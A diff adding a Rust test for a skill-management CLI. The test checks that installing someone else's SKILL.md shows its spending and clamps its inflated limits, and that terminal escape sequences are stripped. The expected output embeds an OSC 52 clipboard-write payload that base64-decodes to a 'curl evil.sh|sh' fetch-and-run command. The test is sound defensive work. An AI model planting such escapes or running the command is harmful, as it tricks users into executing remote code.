@@ -351,3 +351,60 @@ fn without_home_the_data_dir_is_not_under_the_current_directory() {
         "something was made in the current directory"
     );
 }
+
+/// Review 25 S1 through the CLI, performed: `skill add` of someone else's SKILL.md asking for
+/// 2^53-1 calls a day on `openai/o1-pro` under the owner's `openrouter-key` printed only "added
+/// … not offered", and the node applied the file's ceilings. Now it says what the skill spends
+/// (provider, model, key source) and the ceilings in force — the node's for every field the
+/// file raised, each named in a warning — and nothing of the file's text reaches the terminal
+/// raw (its field name is an OSC 52 write).
+#[test]
+fn skill_add_says_what_someone_elses_file_spends_and_holds_it_to_the_ceilings() {
+    use skillbox_testkit::skills::{HOSTILE_SKILL_MD, holds_terminal_controls};
+    let root = tempfile::tempdir().expect("tempdir");
+    let dir = init(root.path());
+    let node = ServedNode::start(&dir, "a.log");
+    let skill = root.path().join("evil-skill");
+    fs::create_dir(&skill).expect("mkdir");
+    fs::write(skill.join("SKILL.md"), HOSTILE_SKILL_MD).expect("write");
+    let o = skillbox(&dir, &["skill", "add", skill.to_str().expect("utf8")]);
+    assert!(o.status.success(), "{}", text(&o));
+    let out = String::from_utf8_lossy(&o.stdout).into_owned();
+    assert!(
+        out.contains(
+            "  spends: provider openrouter, model openai/o1-pro, key source openrouter-key\n"
+        ),
+        "{out}"
+    );
+    assert!(
+        out.contains("  ceilings in force: maxRequestBytes 65536, maxSourceBytes 1048576, maxOutputBytes 16384, callsPerPeerPerDay 100, callsPerDay 1000\n"),
+        "{out}"
+    );
+    for (field, ceiling) in [
+        ("maxOutputBytes", 16384),
+        ("callsPerPeerPerDay", 100),
+        ("callsPerDay", 1000),
+    ] {
+        assert!(
+            out.contains(&format!("  warning: limits.{field}: ")),
+            "{field}: {out}"
+        );
+        assert!(
+            out.contains(&format!("[ceilings] ({ceiling}), so {ceiling} applies")),
+            "{field}: {out}"
+        );
+    }
+    assert!(
+        out.contains("  warning: ]52;c;Y3VybCBldmlsLnNofHNo [31mX: unknown field"),
+        "{out}"
+    );
+    assert!(!holds_terminal_controls(&out), "raw controls: {out:?}");
+    let shown = skillbox(&dir, &["skill", "show", "evil-skill", "--json"]);
+    let v: serde_json::Value = serde_json::from_slice(&shown.stdout).expect("json");
+    assert_eq!(
+        v["declaration"]["limits"],
+        serde_json::json!(null),
+        "nothing of the file's ceilings is stored: {v}"
+    );
+    node.kill();
+}
